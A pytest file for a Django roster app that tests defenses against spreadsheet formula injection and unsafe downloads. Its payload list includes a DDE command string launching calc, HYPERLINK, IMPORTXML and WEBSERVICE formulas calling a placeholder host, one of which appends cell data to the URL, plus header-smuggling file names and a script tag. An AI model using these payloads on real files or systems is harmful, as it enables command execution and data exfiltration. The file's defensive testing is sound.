"""A file that leaves the site is a download whatever is in it, and no cell of it is a formula."""

import csv
import re
from io import BytesIO, StringIO
from unicodedata import normalize
from zipfile import ZipFile

import pytest
from django.urls import reverse
from python_calamine import CalamineWorkbook

from our_tools import SOURCE
from tanxin.apps.org import services
from tanxin.apps.org.roster import read_roster, write_roster
from tanxin.apps.org.roster.places import Where
from tanxin.apps.org.roster.rows import PersonRow, Roster
from tanxin.apps.org.services import PersonDetails
from tanxin.web.downloads import download
from world import FOUNDED

BODIES = [
    "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://x/?"&A1,"点我")', "SUM(A1:A9)", "@SUM(1)",
    'IMPORTXML("http://x","//a")', 'WEBSERVICE("http://x")',
]  # fmt: skip
SIGNS = [
    "=",
    "+",
    "-",
    "@",
    "＝",
    "＋",
    "－",
    "＠",
    "\t=",
    "\r=",
    " =",
    "\u200b=",
    "\u00a0＝",
    "﹦",
    "⁼",
]
PAYLOADS = (
    [sign + body for sign in SIGNS for body in BODIES[:3]]
    + ["=" + body for body in BODIES]
    + ["'=1", "\n=1", "\0=1"]
)
WORKS = {"=", "+", "-", "@"}
HEADERS = {
    "X-Content-Type-Options": "nosniff",
    "Cache-Control": "no-store",
    "Content-Security-Policy": "sandbox; default-src 'none'",
}


def roster():
    return Roster(
        people=tuple(
            PersonRow(Where(""), name=f"张{at}", unit="局", note=text)
            for at, text in enumerate(PAYLOADS)
        )
    )


def formulas(book):
    with ZipFile(BytesIO(book)) as archive:
        return sum(
            archive.read(name).count(b"<f")
            for name in archive.namelist()
            if name.startswith("xl/worksheets/")
        )


def test_no_payload_becomes_a_formula_in_a_workbook():
    book = write_roster(roster())

    rows = CalamineWorkbook.from_filelike(BytesIO(book)).get_sheet_by_index(0).to_python()
    print(f"payloads: {len(PAYLOADS)}, formula cells: {formulas(book)}")
    assert len(PAYLOADS) >= 50
    assert formulas(book) == 0
    assert all(isinstance(cell, str) for row in rows for cell in row)


def test_no_cell_of_a_csv_file_begins_as_a_formula_in_any_writing():
    text = write_roster(roster(), "csv").decode("utf-8-sig")

    for row in csv.reader(StringIO(text, newline="")):
        for cell in row:
            assert normalize("NFKC", cell).lstrip(" \t\r\n\0\u200b\u00a0")[:1] not in WORKS, repr(
                cell
            )
    notes = [person.note for person in read_roster("a.csv", write_roster(roster(), "csv")).people]
    assert len(notes) == len(PAYLOADS)


def test_no_writer_of_workbooks_lets_the_library_guess():
    """``write`` and its kin take a string that begins with = for a formula, and one with :// for a link."""
    guessing = re.compile(
        r"\.(write|write_row|write_column|write_formula|write_array_formula|write_url)\("
    )
    writers = [
        path
        for path in SOURCE.rglob("*.py")
        if "xlsxwriter" in path.read_text("utf-8") and "demo" not in path.parts
    ]

    assert writers
    for path in writers:
        lines = [line for line in path.read_text("utf-8").splitlines() if "sheet" in line]
        assert not [line for line in lines if guessing.search(line)], path


@pytest.mark.parametrize("name", ["roster:export", "roster:template"])
def test_what_the_organiser_takes_out_is_a_plain_download_without_formulas(world, name):
    services.add_person(
        world.founder,
        PersonDetails(name="=1+1", number="@SUM(1)", phone="+8613800000000"),
        at=FOUNDED,
    )
    client = world.client("dora")

    answer = (
        client.post(reverse(name, args=["xlsx"]))
        if name.endswith("export")
        else client.get(reverse(name))
    )

    assert formulas(answer.content) == 0
    assert answer["Content-Disposition"].startswith("attachment")
    assert {header: answer[header] for header in HEADERS} == HEADERS


def test_csv_is_there_only_where_somebody_asked_for_it(world, settings):
    client, url = world.client("dora"), reverse("roster:export", args=["csv"])
    assert client.post(url).status_code == 404
    assert url not in client.get(reverse("roster:start")).content.decode()

    settings.TANXIN_CSV_EXPORT = True

    assert client.post(url).status_code == 200
    assert url in client.get(reverse("roster:start")).content.decode()


@pytest.mark.parametrize(
    "name", ["a.html", "图.svg", 'x"; filename="y.exe', "行\r\nSet-Cookie: a=b"]
)
def test_a_file_of_any_name_and_kind_is_never_a_page(name):
    answer = download(b"<script>alert(1)</script>", name, "text/plain")

    assert answer["Content-Disposition"].startswith("attachment")
    assert "\n" not in answer["Content-Disposition"]
    assert {header: answer[header] for header in HEADERS} == HEADERS
